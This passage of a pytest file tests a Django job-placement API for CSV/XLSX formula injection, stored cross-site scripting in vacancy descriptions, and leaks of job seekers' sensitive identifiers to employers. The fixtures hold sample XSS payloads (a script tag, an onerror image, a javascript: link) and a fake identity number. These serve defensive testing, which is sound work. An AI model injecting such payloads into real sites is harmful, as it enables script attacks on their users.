    response = world["b"].get(reverse("api:jobseeker-export", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    if fmt == "csv":
        import csv
        import io

        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    else:
        import io

        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(response.content))
        sheet = book.worksheets[0]
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [cell for cell in cells if cell.startswith(("=", "@"))], cells
    assert "'" + evil in cells


def test_script_in_a_vacancy_description_is_sanitised_everywhere(city_a, users, world):
    client = bearer_client(make_token(users["employer"], city_a))
    body = {
        "title": "Operator",
        "description": (
            '<p>Ok</p><script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>'
        ),
        "wage_negotiable": True,
        "essential_tasks": "x",
        "employment_type": "permanent",
        "arrangement": "on_site",
        "working_hours": "08-16",
    }
    response = client.post(reverse("api:own-vacancy-list"), body, format="json")
    assert response.status_code == 201, response.content[:300]
    with city_context(city_a):
        stored = Vacancy.objects.get(pk=response.json()["id"]).description
    for bad in ("<script", "onerror", "javascript:"):
        assert bad not in stored.lower() and bad not in response.content.decode().lower()


# --- The employer's referred candidates (/api/pemberi-kerja/kandidat/) --------------------------------------
@pytest.fixture
def candidate_world(city_a, users, world):
    from tests.accounts.test_permission_matrix import build_placement_world

    with city_context(city_a):
        seeker = JobSeeker.objects.create(
            name="Candidate Person",
            user=users["job_seeker"],
            nik="3372054701900002",
            address="Jl. Tersembunyi 7",
            ragam=["mental"],
            kpd_number="KPD-SECRET-1",
        )
    return {**world, **build_placement_world(city_a, users, seeker, world["vacancy"]), "candidate": seeker}


def test_employer_candidates_carry_only_disclosed_groups(city_a, users, candidate_world):
    """Disclosed: needs only. The NIK, address, KPD number, ragam and WG answers never appear."""
    client = bearer_client(make_token(users["employer"], city_a, scope="read"))
    response = client.get(reverse("placements:api-employer-candidates"), {"include": "nik,ragam", "fields": "all"})
    assert response.status_code == 200
    (row,) = [r for r in response.json()["results"] if r["name"] == "Candidate Person"]
    assert "needs" in row
    assert not {"functioning", "ragam", "documents", "nik", "address", "kpd_number"} & set(row)
    _no_leak(response, "3372054701900002", "Jl. Tersembunyi", "KPD-SECRET-1", "mental", "Mental")


def test_employer_candidates_of_another_employer_or_city_are_empty(city_a, city_b, users, candidate_world):
    stranger = make_member(city_a, Membership.Role.EMPLOYER)
    for client in (
        bearer_client(make_token(stranger, city_a)),
        bearer_client(make_token(make_member(city_b, Membership.Role.EMPLOYER), city_b)),
    ):
        response = client.get(reverse("placements:api-employer-candidates"))
        assert response.status_code in (200, 403)
        _no_leak(response, "Candidate Person")
    for kind in ("staff_b", "apeksi"):
        client = APIClient()
        client.force_login(users[kind])
        response = client.get(reverse("placements:api-employer-candidates"))
        assert response.status_code == 403
        _no_leak(response, "Candidate Person")
